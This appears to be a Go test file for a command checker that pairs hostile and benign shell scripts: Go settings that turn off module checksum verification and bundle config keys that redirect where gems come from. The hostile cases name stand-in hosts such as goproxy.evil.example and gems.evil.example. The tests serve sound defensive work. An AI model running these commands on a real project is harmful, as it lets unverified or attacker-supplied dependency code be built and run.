// Tests of the classes the seventh fresh corpus found (issue 27), each
// with a hostile case and its benign twin: go told to use modules it has
// not checked, and bundle config keys that decide where gems come from.
package commands

import "testing"

// GOSUMDB=off, GONOSUMDB or GOPRIVATE matching every module, GOINSECURE
// and GOFLAGS=-insecure let unchecked module code be built and run, set
// in the script or with go env -w; the project's own private paths are
// the ordinary use.
func TestGoUncheckedModules(t *testing.T) {
	checkTwins(t, []twin{
		{name: "go env -w GONOSUMDB=*", hostile: "go env -w GOPROXY=https://goproxy.evil.example,direct\ngo env -w GONOSUMDB=* GOFLAGS=-mod=mod\ngo build ./...",
			want: "without checking them against the checksum database", benign: "go env -w GOPRIVATE=github.com/acme/*\ngo build ./..."},
		{name: "GOSUMDB=off", hostile: "export GOSUMDB=off\ngo mod download\ngo test ./...",
			want: "without checking them against the checksum database", benign: "export GOSUMDB=sum.golang.org\ngo mod download\ngo test ./..."},
		{name: "GOINSECURE", hostile: "GOINSECURE=example.com go get example.com/tool@v1.2.0",
			want: "without checking them against the checksum database", benign: "GOPRIVATE=example.com/acme go get example.com/acme/tool@v1.2.0"},
		{name: "GOPRIVATE of everything", hostile: "GOPRIVATE='*' go build ./...",
			want: "without checking them against the checksum database", benign: "GOPRIVATE='*.corp.example' go build ./..."},
	})
}

// bundle config set writes a key every later bundle reads: a mirror (or
// a local override, build options, another Gemfile) decides where gems
// come from and what runs; where gems go and which groups do not.
func TestBundleConfigKey(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a mirror", hostile: "bundle config set mirror.https://rubygems.org http://gems.evil.example\nbundle install",
			want: "sets bundle's mirror.https://rubygems.org", benign: "bundle config set --local path vendor/bundle\nbundle install --jobs 4"},
		{name: "a local override", hostile: "bundle config set --local local.rack /tmp/rack\nbundle exec rake test",
			want: "sets bundle's local.rack", benign: "bundle config set --local without development\nbundle exec rake test"},
	})
}
